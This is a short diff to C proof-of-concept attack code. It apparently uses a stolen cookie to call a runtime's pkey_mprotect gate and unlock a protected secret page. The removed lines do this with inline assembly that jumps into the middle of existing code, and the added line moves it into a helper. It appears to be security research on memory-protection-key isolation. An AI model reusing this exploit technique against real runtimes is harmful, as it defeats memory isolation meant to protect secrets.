@@ -79,15 +79,7 @@ long attack(const char *mode, void *aux, const volatile char *secret, int key,
     uint64_t cookie = listen_for_cookie(fd);
     pthread_join(t, NULL);
     printf("cookie %s\n", cookie ? "stolen" : "not seen");
-    register uint64_t r9 __asm__("r9") = cookie;
-    register long r10 __asm__("r10") = 0; // pkey 0
-    long r = SYS_pkey_mprotect;
-    __asm__ volatile("call *%[insn]"
-                     : "+a"(r), "+r"(r9), "+r"(r10)
-                     : [insn] "r"((char *)aux - 2),
-                       "D"((uintptr_t)secret & -4096), "S"(4096),
-                       "d"(PROT_READ | PROT_WRITE)
-                     : "rcx", "r11", "memory");
+    long r = runtime_pkey_mprotect(aux, secret, cookie);
     printf("the runtime's pkey_mprotect with it: %ld\n", r);
     fflush(stdout);
   }
